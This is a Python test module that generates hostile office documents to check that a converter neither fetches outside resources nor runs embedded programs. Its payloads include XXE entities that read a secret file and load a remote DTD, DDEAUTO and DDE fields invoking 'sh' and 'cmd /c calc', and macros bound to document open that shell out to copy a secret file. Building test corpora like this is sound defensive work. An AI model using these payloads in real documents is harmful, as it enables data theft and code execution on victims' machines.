"""Office documents that point elsewhere in every way there is, and that bring programs along."""

# ruff: noqa: E501 - hostile files have long lines

from tests.hostile.corpus_markup import svg
from tests.hostile.corpus_office import DOC, PKG, SHEET, Parts, docx, odf, odt, paragraph, xlsx
from tests.hostile.hostile import Hostile, Lures

XXE = (
    '<!DOCTYPE x [<!ENTITY f SYSTEM "{secret}"><!ENTITY w SYSTEM "{web}x">'
    '<!ENTITY % p SYSTEM "{web}p.dtd"> %p;]>'
)


def field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}" w:dirty="true"/></w:p>'


def docx_everywhere(lures: Lures) -> bytes:
    body = paragraph("Words")
    links: dict[str, tuple[str, str]] = {}
    kinds = (
        "image",
        "attachedTemplate",
        "frame",
        "oleObject",
        "aFChunk",
        "subDocument",
        "hyperlink",
    )
    for index, address in enumerate(lures.addresses):
        links |= {f"e{kind}{index}": (kind, f"{address}{kind}") for kind in kinds}
        for verb in ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "LINK Word.Document.8", "RD"):
            body += field(f"{verb} &quot;{address}&quot; \\d")
        body += field(f"DDEAUTO &quot;sh&quot; &quot;{address}&quot;")
        body += (
            f'<w:p><w:subDoc r:id="esubDocument{index}"/><w:altChunk r:id="eaFChunk{index}"/></w:p>'
        )
        body += (
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;'
            f'height:9pt"><v:imagedata r:id="eimage{index}" r:href="eimage{index}" src="{address}"/>'
            '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="a"'
            f' r:id="eoleObject{index}"/></v:shape></w:pict></w:r></w:p>'
        )
        body += (
            '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
            'drawingml/2006/wordprocessingDrawing"><wp:extent cx="99999" cy="99999"/><a:graphic'
            ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri='
            '"http://schemas.openxmlformats.org/drawingml/2006/picture"><p:pic xmlns:p="http://'
            'schemas.openxmlformats.org/drawingml/2006/picture"><p:blipFill><a:blip r:link='
            f'"eimage{index}"/></p:blipFill></p:pic></a:graphicData></a:graphic></wp:inline>'
            "</w:drawing></w:r></w:p>"
        )
    return docx(body, links=links)


def odt_everywhere(lures: Lures) -> bytes:
    body, head = "<text:p>Words</text:p>", ""
    for index, address in enumerate(lures.addresses):
        link = (
            f'xlink:href="{address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
        )
        size = 'svg:width="2cm" svg:height="2cm" text:anchor-type="paragraph"'
        things = "".join(
            f"<draw:frame {size}><draw:{kind} {link}/></draw:frame>"
            for kind in ("image", "object", "object-ole", "plugin", "applet", "floating-frame")
        )
        body += (
            f'<text:section text:name="s{index}"><text:section-source {link}/><text:p/>'
            f'</text:section><text:section text:name="d{index}"><office:dde-source'
            f' office:dde-application="sh" office:dde-topic="{address}" office:dde-item="a"'
            f' office:automatic-update="true"/></text:section><text:p>{things}<text:a {link}>a'
            f"</text:a><text:bookmark-ref {link}/></text:p>"
        )
        head += (
            f'<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners>'
            f'<script:event-listener script:language="ooo:script" script:event-name="dom:load" {link}/>'
            "</office:event-listeners></office:scripts>"
            f"<office:meta><meta:auto-reload {link}/><meta:template {link}/></office:meta>"
        )
    return odt(body, head=head)


def macros(lures: Lures) -> bytes:
    """A macro bound to the opening of the document, which would write and fetch."""
    basic = (
        '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script"'
        ' script:name="M" script:language="StarBasic">Sub Main\n'
        f'Shell("/bin/sh", 0, "-c \'cat {lures.secret} &gt; /tmp/canary-flew\'")\n'
        "Open &quot;/tmp/canary-flew&quot; For Output As #1\nPrint #1, &quot;x&quot;\nClose #1\n"
        f"ThisComponent.Text.String = GetText(&quot;{lures.secret}&quot;)\nEnd Sub\n</script:module>"
    )
    names = 'xmlns:library="http://openoffice.org/2000/library"'
    library = f'<library:library {names} library:name="Standard"><library:element library:name="M"/></library:library>'
    libraries = f'<library:libraries {names}><library:library library:name="Standard" library:link="false"/></library:libraries>'
    where = 'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"'
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="{name}" {where}'
        ' xlink:type="simple"/>'
        for name in ("dom:load", "office:start-app", "office:print", "dom:DOMFocusIn", "office:new")
    )
    head = f"<office:scripts><office:event-listeners>{events}</office:event-listeners></office:scripts>"
    more: Parts = {
        "Basic/script-lc.xml": libraries,
        "Basic/Standard/script-lb.xml": library,
        "Basic/Standard/M.xml": basic,
        "Scripts/python/m.py": f"open('/tmp/canary-flew', 'w').write(open('{lures.secret}').read())",
    }
    return odf("text", "<text:p>Words</text:p>", head=head, more=more)


def ods_everywhere(lures: Lures) -> bytes:
    cells, ranges = "", ""
    for index, address in enumerate(lures.addresses):
        link = f'xlink:href="{address}" xlink:type="simple"'
        for formula in (
            f"WEBSERVICE(&quot;{address}&quot;)",
            f"FILTERXML(WEBSERVICE(&quot;{address}&quot;);&quot;//a&quot;)",
            f"'{address}'#$Sheet1.A1",
            f"DDE(&quot;soffice&quot;;&quot;{address}&quot;;&quot;a&quot;)",
            f"INDIRECT(&quot;'{address}'#$a.A1&quot;)",
            "DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)",
        ):
            cells += f'<table:table-row><table:table-cell table:formula="of:={formula}"/></table:table-row>'
        cells += (
            f'<table:table-row><table:table-cell><table:cell-range-source table:name="all" {link}'
            ' table:last-column-spanned="9" table:last-row-spanned="9" table:filter-name="calc_HTML_'
            'WebQuery" table:refresh-delay="PT1S"/></table:table-cell></table:table-row>'
        )
        ranges += (
            f'<table:database-range table:name="r{index}" table:target-range-address="a.A1:a.B9">'
            f'<table:database-source-sql table:database-name="{address}" table:sql-statement="SELECT'
            ' 1"/></table:database-range>'
        )
    source = f'<table:table table:name="b"><table:table-source xlink:href="{lures.secret.as_uri()}"'
    source += (
        ' table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/></table:table>'
    )
    body = f'<table:table table:name="a">{cells}</table:table>{source}'
    return odf("spreadsheet", f"{body}<table:database-ranges>{ranges}</table:database-ranges>")


def xlsx_everywhere(lures: Lures) -> bytes:
    rows = "".join(
        f"<row><c><f>WEBSERVICE(\"{address}\")</f></c><c><f>[1]a!A1</f></c><c><f>cmd|'/c calc'!A1</f>"
        f'</c><c><f>HYPERLINK("{address}")</f></c><c><f>IMAGE("{address}")</f></c></row>'
        for address in lures.addresses
    ).replace('"', "&quot;")
    outside = (
        f'<externalLink xmlns="{SHEET}" xmlns:r="{DOC}"><externalBook r:id="e1"/></externalLink>'
    )
    web = f'<connections xmlns="{SHEET}"><connection id="1" type="4" refreshOnLoad="1" background="0"><webPr url="{lures.web}"/></connection></connections>'
    relations = (
        f'<Relationships xmlns="{PKG}/relationships"><Relationship Id="e1" Type="{DOC}/'
        f'externalLinkPath" Target="{lures.web}a.xlsx" TargetMode="External"/></Relationships>'
    )
    more: Parts = {
        "xl/out.xml": outside, "xl/_rels/out.xml.rels": relations, "xl/connections.xml": web,
    }  # fmt: skip
    extra = '<externalReferences><externalReference r:id="i2"/></externalReferences><calcPr fullCalcOnLoad="1"/>'
    return xlsx(rows, more=more, extra=extra)


def odp_everywhere(lures: Lures) -> bytes:
    things = "".join(
        f'<draw:frame svg:width="2cm" svg:height="2cm"><draw:{kind} xlink:href="{address}"'
        ' xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
        for address in lures.addresses
        for kind in ("image", "plugin", "object", "applet", "floating-frame")
    )
    return odf("presentation", f'<draw:page draw:name="a">{things}</draw:page>')


def xxe(kind: str) -> Hostile:
    def make(lures: Lures) -> bytes:
        before = XXE.format(secret=lures.secret.as_uri(), web=lures.web)
        drawing = svg("<text>&f;&w;</text>", before).encode()
        match kind:
            case "docx":
                return docx(paragraph("Words &f; &w;"), before)
            case "xlsx":
                return xlsx('<row><c t="inlineStr"><is><t>&f;&w;</t></is></c></row>', before)
            case "odt":
                return odt("<text:p>&f;&w;</text:p>", before=before)
            case "meta":
                more: Parts = {
                    "meta.xml": before + "<a>&f;&w;</a>",
                    "styles.xml": before + "<a>&f;</a>",
                }
                return odf("text", "<text:p>Words</text:p>", more=more)
            case _:
                frame = (
                    '<text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:image xlink:href='
                    '"Pictures/a.svg" xlink:type="simple"/></draw:frame></text:p>'
                )
                return odf("text", frame, more={"Pictures/a.svg": drawing})

    return Hostile(f"entities of files in {kind}", "a file shown", make, reaches_out=True)


def files() -> list[Hostile]:
    """Return them all."""
    everywhere = {
        "docx everywhere": docx_everywhere,
        "odt everywhere": odt_everywhere,
        "odt macros": macros,
        "ods everywhere": ods_everywhere,
        "xlsx everywhere": xlsx_everywhere,
        "odp everywhere": odp_everywhere,
    }
    return [
        *map(xxe, ("docx", "xlsx", "odt", "meta", "svg in odt")),
        *[
            Hostile(name, "all ways to fetch, and programs", make, reaches_out=True)
            for name, make in everywhere.items()
        ],
    ]
